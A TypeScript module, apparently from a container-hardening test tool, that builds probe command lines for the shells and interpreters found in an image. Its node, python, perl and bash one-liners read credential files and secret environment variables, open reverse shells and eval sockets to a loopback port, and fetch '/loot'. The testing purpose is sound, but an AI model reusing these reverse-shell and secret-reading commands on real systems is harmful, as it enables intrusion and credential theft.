import type { Rootfs } from '../model/rootfs.ts';
import type { Item, Surface } from '../model/surface.ts';
import { credentialPath, lootPort, secretName } from './move.ts';

/** A program of the image that does what it is told, and how it is told. What one cannot do is absent. */
export interface Means {
	/** For people: `/bin/dash`, `node`. */
	readonly name: string;
	readonly kind: 'shell' | 'interpreter';
	/** One program that plays many: its first argument says which. */
	readonly many: boolean;
	/** For a shell: how it is started to read commands. */
	readonly start?: readonly string[];
	/** Prints the marker. */
	readonly speak: readonly string[];
	readonly readCredential: readonly string[];
	/** Prints the marker when the arguments of the first process could be read, and nothing of them. */
	readonly readProcess: readonly string[];
	/** Prints our own variable alone: what else is there is nobody's business. */
	readonly readEnvironment: readonly string[];
	/** Prints the marker when a file in the directory could be written. */
	readonly write: (directory: string) => readonly string[];
	/** Fetches our file from the loopback. */
	readonly fetch?: readonly string[];
	/** Connects to the port, and runs what comes with a shell. */
	readonly connectShell?: (port: number, shell: readonly string[]) => readonly string[];
	/** Connects to the port, and runs what comes itself; `say` prints the marker when it is run. */
	readonly connect?: { readonly argv: (port: number) => readonly string[]; readonly say: string };
	/** Prints the marker when a raw socket could be opened. */
	readonly rawSocket?: readonly string[];
}

const scrap = '.footing-rehearsal';

/** What the surface counted as shells and interpreters, as far as we speak their language. */
export function meansOf(surface: Surface, rootfs: Rootfs): readonly Means[] {
	const shells = (surface.shells.items ?? []).flatMap((item) => shellMeans(item, rootfs) ?? []);
	const interpreters = (surface.interpreters.items ?? []).flatMap((item) => interpreterMeans(item) ?? []);
	return [...shells, ...interpreters];
}

/** Shells whose language is not that of POSIX. */
const foreign: ReadonlySet<string> = new Set(['csh', 'tcsh', 'fish', 'elvish', 'nu', 'rc', 'es', 'pwsh', 'xonsh', 'scsh', 'bsh']);

function shellMeans({ name, path }: Item, rootfs: Rootfs): Means | undefined {
	if (path === undefined || foreign.has(name)) return undefined;
	const many = name === 'busybox' || name === 'toybox';
	const run = (line: string): readonly string[] => [path, ...(many ? ['sh'] : []), '-c', line];
	const bash = name === 'bash' && rootfs.resolve(path) !== undefined;
	const tcp = (port: number): string => `exec 3<>/dev/tcp/127.0.0.1/${port}`;
	return {
		name: path,
		kind: 'shell',
		many,
		start: [path, ...(many ? ['sh'] : [])],
		speak: run('echo footing-$((40+2))'),
		readCredential: run(`read -r line <${credentialPath}; echo "$line"`),
		// the line ends with the file: read says 1 and has it all the same
		readProcess: run(`read -r line </proc/1/cmdline; [ -n "$line" ] && echo footing-$((40+2))`),
		readEnvironment: run(`echo "$${secretName}"`),
		write: (directory) => run(`echo x >'${directory}/${scrap}' && echo footing-$((40+2))`),
		...(bash
			? {
					fetch: run(`${tcp(lootPort)}; printf 'GET /loot HTTP/1.0\\r\\n\\r\\n' >&3; while read -r line; do echo "$line"; done <&3`),
					connectShell: (port: number) => run(`${tcp(port)}; exec ${path} <&3 >&3 2>&3`),
				}
			: {}),
	};
}

function interpreterMeans({ name, path }: Item): Means | undefined {
	if (path === undefined) return undefined;
	if (/^node(js)?$/.test(name)) return nodeMeans(path);
	if (/^python[\d.]*$/.test(name)) return pythonMeans(path);
	return /^perl[\d.]*$/.test(name) ? perlMeans(path) : undefined;
}

function nodeMeans(path: string): Means {
	const run = (code: string): readonly string[] => [path, '-e', code];
	const socket = (port: number): string =>
		`const s=require('net').connect({port:${port},host:'127.0.0.1',allowHalfOpen:true});s.on('error',()=>process.exit(1));`;
	return {
		name: path,
		kind: 'interpreter',
		many: false,
		speak: run("console.log('footing-'+(40+2))"),
		readCredential: run(`console.log(require('fs').readFileSync('${credentialPath}','utf8'))`),
		readProcess: run(`if(require('fs').readFileSync('/proc/1/cmdline').length)console.log('footing-'+(40+2))`),
		readEnvironment: run(
			`console.log(require('fs').readFileSync('/proc/self/environ','utf8').split('\\0').filter(v=>v.startsWith('${secretName}=')).join())`,
		),
		write: (directory) =>
			run(
				`const f=require('fs'),p=${JSON.stringify(`${directory}/${scrap}`)};f.writeFileSync(p,'x');f.unlinkSync(p);console.log('footing-'+(40+2))`,
			),
		fetch: run(`require('http').get('http://127.0.0.1:${lootPort}/loot',r=>r.pipe(process.stdout))`),
		connectShell: (port, shell) =>
			run(
				`${socket(port)}const c=require('child_process').spawn(${JSON.stringify(shell[0])},${JSON.stringify(shell.slice(1))});c.on('error',e=>{console.log(e.message);process.exit(1)});s.pipe(c.stdin);c.stdout.pipe(s)`,
			),
		connect: { argv: (port) => run(`${socket(port)}s.once('data',d=>s.end(String(eval(String(d)))))`), say: "'footing-'+(40+2)" },
	};
}

function pythonMeans(path: string): Means {
	const run = (code: string): readonly string[] => [path, '-c', code];
	const socket = (port: number): string => `import socket\ns=socket.create_connection(('127.0.0.1',${port}))\n`;
	return {
		name: path,
		kind: 'interpreter',
		many: false,
		speak: run("print('footing-%d'%(40+2))"),
		readCredential: run(`print(open('${credentialPath}').read())`),
		readProcess: run("if open('/proc/1/cmdline').read(): print('footing-%d'%(40+2))"),
		readEnvironment: run(`print([v for v in open('/proc/self/environ').read().split('\\0') if v.startswith('${secretName}=')])`),
		write: (directory) =>
			run(`import os\np=${JSON.stringify(`${directory}/${scrap}`)}\nopen(p,'w').close()\nos.unlink(p)\nprint('footing-%d'%(40+2))`),
		fetch: run(`import urllib.request\nprint(urllib.request.urlopen('http://127.0.0.1:${lootPort}/loot').read())`),
		connectShell: (port, shell) =>
			run(
				`${socket(port)}import subprocess\nsubprocess.call(${JSON.stringify(shell)},stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())`,
			),
		connect: { argv: (port) => run(`${socket(port)}s.sendall(str(eval(s.recv(999).decode())).encode())`), say: "'footing-%d'%(40+2)" },
		rawSocket: run("import socket\nsocket.socket(socket.AF_INET,socket.SOCK_RAW,1)\nprint('footing-%d'%(40+2))"),
	};
}

/** With nothing but what perl itself has built in: minimal bases have no modules (perl-base has Socket; it is not counted on). */
function perlMeans(path: string): Means {
	const run = (code: string): readonly string[] => [path, '-e', code];
	const socket = (port: number): string =>
		`socket(S,2,1,6) or die $!;connect(S,pack('S n a4 x8',2,${port},pack('C4',127,0,0,1))) or die $!;select(S);$|=1;`;
	return {
		name: path,
		kind: 'interpreter',
		many: false,
		speak: run('print "footing-",40+2'),
		readCredential: run(`open F,"<${credentialPath}" or die $!;print <F>`),
		readProcess: run('open F,"</proc/1/cmdline" or die $!;print "footing-",40+2 if length <F>'),
		readEnvironment: run(`open F,"</proc/self/environ" or die $!;print grep {/^${secretName}=/} split /\\0/,join "",<F>`),
		write: (directory) => run(`$p='${directory}/${scrap}';open F,">",$p or die $!;close F;unlink $p;print "footing-",40+2`),
		fetch: run(`${socket(lootPort)}print S "GET /loot HTTP/1.0\\r\\n\\r\\n";print STDOUT <S>`),
		connectShell: (port, shell) =>
			run(
				`${socket(port)}open STDIN,"<&S";open STDOUT,">&S";open STDERR,">&S";exec ${shell.map((word) => `'${word}'`).join(',')} or die $!`,
			),
		connect: { argv: (port) => run(`${socket(port)}print S eval(scalar <S>)`), say: '"footing-".(40+2)' },
		rawSocket: run('socket(S,2,3,1) or die $!;print "footing-",40+2'),
	};
}
